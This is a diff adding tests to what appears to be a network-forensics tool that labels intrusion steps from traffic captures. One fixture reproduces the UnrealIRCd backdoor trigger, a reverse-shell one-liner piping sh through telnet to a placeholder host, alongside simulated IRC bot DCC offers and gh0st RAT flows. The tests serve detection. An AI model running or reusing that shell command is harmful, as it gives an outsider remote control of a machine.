@@ -193,6 +193,55 @@ EOF
 	[ "$(vals step remote_ip remote_port evidence via_step)" = "1 2 198.51.100.7 198.51.100.103 6667 5000 start dcc - 1 " ]
 }
 
+@test "a backdoor's 'telnet H P' names the shell it opens (cmd-connect); the local host's own DCC offers name the connections to it" {
+	# after the UnrealIRCd 3.2.8.1 backdoor and Zeek's irc-dcc-send
+	# trace: the offer's CTCP quotes (\x01) and a colour code (\x03)
+	# still make it a command line of the evidence
+	story connect <<'EOF'
+session 1262304000.000000 203.0.113.9:40000 192.168.1.5:6667 ttl=50/64
+s ":irc.example NOTICE AUTH :*** Looking up your hostname...\r\n"
+c "AB;sh -c '(sleep 1|telnet 203.0.113.9 4444|while : ; do sh && break; done 2>&1|telnet 203.0.113.9 4444 >/dev/null 2>&1 &)'\r\n"
+end
+session 1262304002.000000 192.168.1.5:1050 203.0.113.9:4444 ttl=64/50
+s "id\n"
+c "uid=0(root) gid=0(root)\n"
+end
+session 1262304010.000000 192.168.1.5:1060 198.51.100.7:6667 ttl=64/50
+c "NICK a1\r\nUSER x 0 0 :x\r\n"
+s ":irc.example 001 a1 :Welcome to the network of the example, this line is long so that the offers come past the head of the client's stream\r\n"
+c "JOIN #x\r\nPRIVMSG #x :\x034hello, this line too is long so that the offers come past the head of the stream, all of it\r\nPRIVMSG #x :more text, to make the stream longer than two hundred and fifty six bytes\r\n"
+c "PRIVMSG boss :\x01DCC SEND bot.exe 3232235781 5000 4096\x01\r\n"
+c "PRIVMSG boss :\x01DCC CHAT chat 3232235781 5001\x01\r\n"
+end
+session 1262304012.000000 198.51.100.7:3000 192.168.1.5:5000 ttl=50/64
+s "MZ" hex:90000300
+c hex:00001000
+end
+session 1262304014.000000 198.51.100.7:3001 192.168.1.5:5001 ttl=50/64
+c "hello bot\r\n"
+s "ok\r\n"
+end
+EOF
+	[ "$(vals step role remote_port evidence via_step)" = "1 2 3 4 5 shell shell cnc propagation cnc 40000 4444 6667 3000 3001 start cmd-connect time dcc dcc - 1 - 3 3 " ]
+	[ "$(printf '%s\n' "$output" | col detail | sed -n 4,5p)" = "dcc bot.exe
+dcc chat" ]
+	# the offers were past the head: command lines of the evidence
+	[ "$(col orig_ev < "$T/connect.tsv" | grep -c 'l[0-9]*:PRIVMSG boss :\\x01DCC SEND')" = 1 ]
+}
+
+@test "a session that came late and began before its episode joins it by the same source" {
+	# a RAT's first connection outlasts the others (gh0st keep-alives)
+	srec > "$T/in" <<'EOF'
+flow=2 ts=1100.000000 dur=10.000000 proto=tcp orig_ip=192.168.1.5 orig_port=1031 resp_ip=198.51.100.9 resp_port=80 dir=out phase=cnc app=gh0st
+flow=3 ts=1200.000000 dur=10.000000 proto=tcp orig_ip=192.168.1.5 orig_port=1032 resp_ip=198.51.100.9 resp_port=80 dir=out phase=cnc app=gh0st
+flow=4 ts=5000.000000 dur=1.000000 proto=tcp orig_ip=203.0.113.7 orig_port=1100 resp_ip=192.168.1.5 resp_port=445 dir=in phase=scan app=smb
+flow=5 ts=6000.000000 dur=1.000000 proto=tcp orig_ip=203.0.113.8 orig_port=1100 resp_ip=192.168.1.5 resp_port=445 dir=in phase=scan app=smb
+flow=1 ts=1000.000000 dur=9000.000000 proto=tcp orig_ip=192.168.1.5 orig_port=1030 resp_ip=198.51.100.9 resp_port=80 dir=out phase=cnc app=gh0st
+EOF
+	run -0 bh-story -s "$T/in"
+	[ "$(vals episode start steps evidence)" = "1 1000.000000 3 same-source " ]
+}
+
 @test "HTTP check-ins at regular intervals are a beacon: C&C, each step the one before; occasional browsing is not" {
 	{
 		for i in 0 1 2 3 4; do
